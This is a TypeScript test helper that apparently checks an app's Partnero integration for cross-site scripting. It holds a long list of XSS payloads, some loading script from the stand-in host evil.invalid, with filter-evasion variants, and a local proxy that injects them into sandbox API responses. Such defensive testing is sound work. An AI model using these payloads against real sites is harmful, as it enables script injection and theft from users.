import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

const elsewhere = "//evil.invalid/x.js";

/** Ways to run a script or leave the page that other programs fell for; each shows when it works. */
const plain: readonly string[] = [
  "<script>alert(1)</script>",
  `<script src=${elsewhere}></script>`,
  "<script>alert(2)//",
  "<ScRiPt>alert(3)</sCrIpT>",
  "<scr<script>ipt>alert(4)</scr</script>ipt>",
  "<script\\x20type='text/javascript'>alert(5);</script>",
  "<img src=x onerror=alert(6)>",
  "<img src='x' onerror='alert(7)'/>",
  '<img """><script>alert(8)</script>">',
  "<img src=x:x onerror=alert`9`>",
  "<img/src/onerror=alert(10)>",
  "<image src=1 onerror=alert(11)>",
  "<svg onload=alert(12)>",
  "<svg/onload=alert(13)//",
  "<svg><script>alert(14)</script></svg>",
  "<svg><a xlink:href='javascript:alert(15)'><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(16) attributeName=x dur=1s>",
  "<svg><use href=data:image/svg+xml,<svg onload=alert(17)>>",
  "<math><mi xlink:href='javascript:alert(18)'>x</mi></math>",
  "<body onload=alert(19)>",
  "<iframe src=javascript:alert(20)></iframe>",
  "<iframe srcdoc='<script>alert(21)</script>'></iframe>",
  "<object data=javascript:alert(22)></object>",
  `<embed src=${elsewhere}>`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<base href=${elsewhere}>`,
  "<meta http-equiv=refresh content='0;url=javascript:alert(23)'>",
  "<form action=javascript:alert(24)><input type=submit></form>",
  "<button formaction=javascript:alert(25)>x</button>",
  "<input autofocus onfocus=alert(26)>",
  "<select autofocus onfocus=alert(27)>",
  "<textarea autofocus onfocus=alert(28)>",
  "<details open ontoggle=alert(29)>",
  "<video><source onerror=alert(30)></video>",
  "<audio src=x onerror=alert(31)>",
  "<marquee onstart=alert(32)>x</marquee>",
  "<div onmouseover=alert(33) style='position:fixed;inset:0'>x</div>",
  "<style>@import '//evil.invalid/x.css';</style>",
  "<style>*{background:url(//evil.invalid/x)}</style>",
  "<a href=javascript:alert(34)>x</a>",
  "<a href='&#106;avascript:alert(35)'>x</a>",
  "javascript:alert(36)",
  "JaVaScRiPt:alert(37)",
  " javascript:alert(38)",
  "javascript://%0aalert(39)",
  "data:text/html,<script>alert(40)</script>",
  "vbscript:msgbox(41)",
  "' onmouseover='alert(42)",
  '" onfocus="alert(43)" autofocus="',
  '"><script>alert(44)</script>',
  "'><img src=x onerror=alert(45)>",
  "--><script>alert(46)</script><!--",
  "]]><script>alert(47)</script>",
  "</title><script>alert(48)</script>",
  "</textarea><script>alert(49)</script>",
  "</script><script>alert(50)</script>",
  "</style><script>alert(51)</script>",
  "`-alert(52)-`",
  "';alert(53)//",
  '";alert(54)//',
  "\\';alert(55)//",
  "{{constructor.constructor('alert(56)')()}}",
  "\u0024{alert(57)}",
  "#{alert(58)}",
  "<%= alert(59) %>",
  "{{7*7}}<x ng-app>{{$eval.constructor('alert(60)')()}}",
  "<noscript><p title='</noscript><img src=x onerror=alert(61)>'>",
  "<xss id=x tabindex=1 onfocusin=alert(62)></xss>",
  "<template><script>alert(63)</script></template>",
  "%3Cscript%3Ealert(64)%3C/script%3E",
  "&lt;script&gt;alert(65)&lt;/script&gt;",
  "\u003cscript\u003ealert(66)\u003c/script\u003e",
  "<a href=//evil.invalid target=_blank>x</a>",
  "__proto__",
  "<plaintext>",
];

/** Texts that stand before or after a value in some page, and what a filter may do to it on the way. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => `"><${payload}`,
  (payload) => `'/>${payload}`,
  (payload) => `</title></textarea></style></script>${payload}`,
  (payload) => payload.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (payload) => payload.replaceAll(" ", "/").replaceAll(":", "&colon;"),
  (payload) => payload.replace(/alert/g, "al\u200bert").replace(/</g, "＜<"),
];

/** All of them, plain first, then in every disguise. */
export const payloads: readonly string[] = [
  ...new Set([...plain, ...disguises.flatMap((disguise) => plain.map(disguise))]),
]
  .filter((payload) => payload.length <= 150)
  .slice(0, 320);

const isHostile = (value: unknown): value is Record<string, unknown> =>
  typeof value === "object" && value !== null && "id" in value && String(value.id).startsWith("xss-");

/** Fills the fields of a hostile customer that Partnero's own API would not let anybody write. */
function poison(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(poison);
  if (typeof value !== "object" || value === null) return value;
  const copy: Record<string, unknown> = Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, poison(one)]),
  );
  if (!isHostile(copy) || !("referral_link" in copy)) return copy;
  // Some to each, so that all of them stand somewhere and no page is too large for its test.
  const n = Number(String(copy.id).split("-")[1]);
  const some = (count: number) => payloads.slice(Math.max(0, n - 6), n - 6 + count);
  return {
    ...copy,
    tags: some(8),
    custom_fields: Object.fromEntries(some(50).map((payload) => [payload, payload])),
    referral_link: "javascript:alert('link')",
    referral_links: ["javascript:alert('links')"],
  };
}

const poisonedLinks = (body: string) =>
  body
    .replaceAll(/"url":"[^"]*"/g, `"url":"javascript:alert('url')"`)
    .replaceAll(/"(facebook|x|linkedin|whatsapp|email)":"[^"]*"/g, `"$1":"JavaScript:alert('share')"`);

/** Stands before the sandbox and turns what it says about `xss-…` customers into what nobody should say. */
export async function hostilePartnero(
  sandboxUrl: string,
): Promise<{ url: string; close: () => Promise<void> }> {
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk);
    const { host: _host, connection: _connection, ...headers } = request.headers;
    const answer = await fetch(sandboxUrl + request.url, {
      method: request.method,
      headers: Object.entries(headers).map(([name, value]): [string, string] => [name, String(value)]),
      body: chunks.length > 0 ? Buffer.concat(chunks) : undefined,
    });
    const text = await answer.text();
    const path = request.url ?? "";
    const said = text === "" ? "" : JSON.stringify(poison(JSON.parse(text)));
    const body = /\/xss-[^/]*\/(referral_links|stats)/.test(path) ? poisonedLinks(said) : said;
    const budget = [...answer.headers].filter(([name]) => name.startsWith("x-ratelimit-"));
    response.writeHead(answer.status, { "content-type": "application/json", ...Object.fromEntries(budget) });
    response.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
